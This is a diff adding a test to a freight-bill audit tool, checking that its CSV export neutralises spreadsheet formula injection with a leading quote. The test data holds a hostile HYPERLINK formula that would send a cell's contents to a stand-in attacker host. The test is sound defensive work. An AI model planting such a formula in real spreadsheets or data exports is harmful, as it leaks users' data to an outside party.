@@ -228,6 +228,21 @@ describe('shipper audit', () => {
     expect(records[0]).toMatchObject({ file: csvFile, line: '2', proNumber: '7204801', scac: 'RRFT', matchedBy: 'PRO', quoted: '626.04', billed: '706.24' });
   });
 
+  it("--csv: a value of the carrier's bill that a spreadsheet would run as a formula is written inert (a leading quote, quoted); no cell starts a formula", async () => {
+    const hostile = join(store.dir, 'hostile-bills.csv');
+    const invoiceNumber = '=HYPERLINK("http://evil.example/?"&A1,"Pay")';
+    await writeFile(hostile, [CSV_HEADER, `"${invoiceNumber.replace(/"/g, '""')}",9900002,,RRFT,2026-12-01,500,70,Castings,,,300.00,-210.00,27.00,,117.00`].join('\r\n'));
+    const { stdout } = await audit(await storeCopy('csv-formula'), [hostile, '--csv', '--no-save']);
+    const [header, row] = stdout.split('\r\n');
+    expect(header!.split(',')[2]).toBe('invoiceNumber');
+    // No cell of the output starts a formula: every one that would is quoted behind a single quote.
+    expect(row).toContain(`"'${invoiceNumber.replace(/"/g, '""')}"`);
+    const records = parse(stdout, { columns: true }) as Array<Record<string, string>>;
+    expect(records).toHaveLength(1);
+    for (const cell of Object.values(records[0]!)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(records[0]!.invoiceNumber).toBe(`'${invoiceNumber}`);
+  });
+
   it('writes one dispute pack per disputed bill: the findings, charges beside the quote, the declared freight, the BOL attached', async () => {
     const dir = await storeCopy('packs');
     const packs = join(store.dir, 'disputes');
